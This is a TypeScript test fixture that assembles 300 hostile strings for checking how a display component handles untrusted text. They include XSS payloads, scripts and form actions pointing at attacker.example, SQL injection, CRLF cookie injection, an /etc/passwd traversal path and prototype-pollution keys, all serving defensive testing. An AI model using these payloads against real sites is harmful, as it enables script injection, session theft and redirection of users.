/** Texts that a page, a feed, a stranger's archive or an address could hold, to run, load, lead away or break what shows them. */

/** Out of wherever it was put. */
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</title>',
  '</script>',
  '</style>',
  '</select>',
  '</bdi></p>',
  '</textarea></template></svg>',
];

const VECTORS = [
  '<script>alert(1)</script>',
  '<script src=https://attacker.example/a.js></script>',
  '<ScRiPt\n>alert(1)</sCrIpT\t>',
  '<img src=x onerror=alert(1)>',
  '<img src=https://attacker.example/a.png>',
  '<svg onload=alert(1)>',
  '<svg><script href=https://attacker.example/a.js /></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src=https://attacker.example/></iframe>',
  '<object data=https://attacker.example/></object><embed src=https://attacker.example/>',
  '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
  '<base href=https://attacker.example/>',
  '<link rel=stylesheet href=https://attacker.example/a.css><link rel=dns-prefetch href=//attacker.example>',
  '<style>@import url(https://attacker.example/a.css);body{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(https://attacker.example/a.png)">',
  '<form action=https://attacker.example/><input name=csrf><button autofocus onfocus=alert(1)>go</form>',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video autoplay><source onerror=alert(1)></video><audio src=https://attacker.example/a.mp3>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<plaintext><xmp><noscript><!--',
];

const TEXTS = [
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover=alert(1) style='display:none",
  'javascript:alert(1)//',
  'JaVa\tScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '//attacker.example/',
  '\\\\attacker.example\\',
  `\${alert(1)}{{constructor.constructor("alert(1)")()}}<%= 1 %>`,
  '&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;&quot;',
  '\u202e\u2066\u2067\u202bturned\u2069',
  '\u0000\u0007\u001b[31m\u009b',
  '\ufeff\u200b\u2060\u{e0041}\u00ad',
  'r\u0301'.repeat(300),
  `z${'\u0321\u0489'.repeat(600)}`,
  'w'.repeat(3000),
  '️⃣👩‍👩‍👧‍👦'.repeat(100),
  'שלום עולם و مرحبا '.repeat(20),
  '\n\n\r\n\t'.repeat(50),
  "'; drop table article; --",
  '%00%0d%0aSet-Cookie:%20a=b',
  '\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
];

/** 300 of them. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...BREAKOUTS.flatMap((out) => VECTORS.map((vector) => `${out}${vector}`)),
  ...TEXTS,
];
